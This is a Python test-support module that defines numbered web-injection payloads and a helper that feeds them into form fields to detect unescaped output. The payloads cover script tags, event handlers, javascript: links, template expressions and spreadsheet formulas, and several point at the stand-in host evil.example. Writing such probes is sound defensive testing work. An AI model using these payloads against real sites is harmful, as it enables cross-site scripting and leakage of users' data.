"""Words that would do harm wherever they were taken for anything but words.

Each begins with a sign of its own (``q07:``), so that whoever finds the sign on a page can say whether the
whole of it stands there as it was written. What it would run, ask for or make carries the same number.
"""

from __future__ import annotations

import re
from itertools import count

EVIL = "evil.example"
"""A host nothing may ever be asked of."""

PRODUCT = str(913 * 7)
"""What a template would make of a sum."""

_WRITTEN = (
    # Everything at once, short enough for any field: attributes, texts of elements, elements of scripts.
    """'"></script></title></textarea><x-@ onx=alert(@)>""",
    "<script>alert(@)</script>",
    '"><img src=x onerror=alert(@)>',
    "'><svg onload=alert(@)>",
    '" onfocus=alert(@) autofocus x="',
    "' onmouseover='alert(@)",
    "</script><script>alert(@)</script>",
    "javascript:alert(@)//",
    "[x](javascript:alert(@)) **b** `c` ![y](//evil.example/@)",
    '<a href="javascript:alert(@)">b</a><b>b</b><br><sup>2</sup>',
    "%{y}<extra>x</extra>%(n)s %s $x$",
    "\u2028alert(@)\u2029//",
    "--><!--<x-@>",
    "]]><x-@>",
    "&lt;img src=x onerror=alert(@)&gt;&#60;x-@&#62;&quot;",
    "\ue0000\ue001<x-@>",
    '<iframe srcdoc="<script>alert(@)</script>"></iframe>',
    "<form action=//evil.example/@><input name=csrf_token><button>b</button></form>",
    "<base href=//evil.example/><meta http-equiv=refresh content=0;url=//evil.example/@>",
    "<i id=raum data-alone data-insert=x data-show='{}' data-result=//evil.example/@ class=studio>",
    '\\"};alert(@);//\\u003cx-@\\u003e',
    "<style>*{background:url(//evil.example/@)}</style><p style=color:red>",
    '<svg><a xlink:href="javascript:alert(@)"><text>b</text></a></svg>',
    '<noscript><p title="</noscript><x-@>">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;<x-@>">',
    '"><a href="//evil.example/@" ping="//evil.example/@">b</a>',
    "{{913*7}}${913*7}#{913*7}{%if 1%}",
    "{0} {count, plural, other {#}} {!r}",
    # For fields that are too short for the first one.
    """'"><x-@ onx=alert(@)>""",
)  # fmt: skip

FORMULAS = ('=HYPERLINK("//evil.example")', "+1+1", "-2+3", "@SUM(1+1)")
"""What a spreadsheet would reckon out if a cell began with it."""

PAYLOADS = {
    number: f"q{number:02d}:{text.replace('@', str(number))}"
    for number, text in enumerate(_WRITTEN)
}
"""Every payload by its number."""

WITHOUT_BRACES = {number: text for number, text in PAYLOADS.items() if not {*"{}"} & {*text}}
"""Those that may stand in a text of a questionnaire, where braces name an answer."""

POLYGLOT = PAYLOADS[0]

SHORT = PAYLOADS[28]

SIGN = re.compile(r"q(\d\d):")
"""Where a payload begins."""


class Supply:
    """Gives words for one field after the other, so that all payloads and formulas come around."""

    def __init__(self, known: dict[int, str] = PAYLOADS) -> None:
        """Begin with the first payload."""
        self._known = [text for text in known.values() if text != POLYGLOT]
        self._turn = count()

    def line(self, room: int = 120) -> str:
        """Return words for a single line, without signs nobody sees: some fields refuse them."""
        return self._filled(room, [each for each in self._known if each.isprintable()])

    def words(self, room: int = 120) -> str:
        """Return words for as many characters (27 or more): a formula, the polyglot, and others."""
        return self._filled(room, self._known)

    def _filled(self, room: int, known: list[str]) -> str:
        turn = next(self._turn)
        starts = (FORMULAS[turn % len(FORMULAS)][: max(0, room - len(POLYGLOT) - 1)], POLYGLOT)
        found = " ".join(each for each in starts if each)
        for step in range(len(known)):
            more = known[(turn + step) % len(known)]
            if len(found) + len(more) < room:
                found = f"{found} {more}"
        return found if len(found) <= room else SHORT
